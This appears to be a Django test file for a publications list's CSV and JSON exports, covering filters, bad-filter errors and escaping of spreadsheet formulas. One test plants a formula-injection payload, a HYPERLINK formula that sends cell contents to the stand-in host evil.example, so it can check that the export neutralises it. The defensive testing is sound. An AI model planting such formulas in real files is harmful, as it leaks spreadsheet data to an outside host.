"""publications/exports.py: the list as CSV and JSON, with the same filters."""

import csv
import io
import json

import pytest


@pytest.mark.django_db
def test_csv_and_json_exports_follow_the_filters(library, client):
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/publications/export.csv?kind=strategy").content.decode())
        )
    )
    data = json.loads(client.get("/publications/export.json?kind=strategy&year=2023").content)

    strategies = {row["title"] for row in rows}
    assert {"Early help strategy", "SEND strategy"} <= strategies
    assert all(row["kind"] == "Strategy" for row in rows)
    assert [
        item["title"] for item in data["publications"] if item["title"] == "Early help strategy"
    ]
    assert all(item["year"] == 2023 for item in data["publications"])
    assert data["publications"][0]["download_url"].startswith("http://testserver/publications/")


@pytest.mark.django_db
def test_an_export_with_bad_filters_says_what_is_wrong(seeded_site, client):
    response = client.get("/publications/export.json?year=abc")

    assert response.status_code == 400
    assert "year" in response.json()["errors"]


@pytest.mark.django_db
def test_csv_exports_keep_formulas_no_longer(seeded_site, client):
    """A title or summary a spreadsheet would run as a formula (=, +, -, @, tab, carriage
    return first) goes out with a leading apostrophe in the CSV (OWASP's rule); the JSON
    keeps the words as they are."""
    from tests.publications.factories import PublicationFactory

    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    PublicationFactory(title=formula, slug="formula", summary="@SUM(1+1)")
    PublicationFactory(title="+44 20 7606 3030", slug="plus", summary="-1 day\tlater")
    PublicationFactory(title="\tTabbed", slug="tabbed", summary="\rreturned")

    exported = list(csv.DictReader(io.StringIO(client.get("/publications/export.csv").text)))
    by_url = {row["url"].rsplit("/", 2)[-2]: row for row in exported}
    assert by_url["formula"]["title"] == "'" + formula
    assert by_url["formula"]["summary"] == "'@SUM(1+1)"
    assert by_url["plus"]["title"] == "'+44 20 7606 3030"
    assert by_url["plus"]["summary"] == "'-1 day\tlater"
    assert by_url["tabbed"]["title"] == "'\tTabbed"
    assert by_url["tabbed"]["summary"] == "'\rreturned"
    assert not [
        (name, value)
        for row in exported
        for name, value in row.items()
        if value and value[0] in "=+-@\t\r"
    ]
    as_json = {
        item["title"] for item in client.get("/publications/export.json").json()["publications"]
    }
    assert {formula, "+44 20 7606 3030", "\tTabbed"} <= as_json
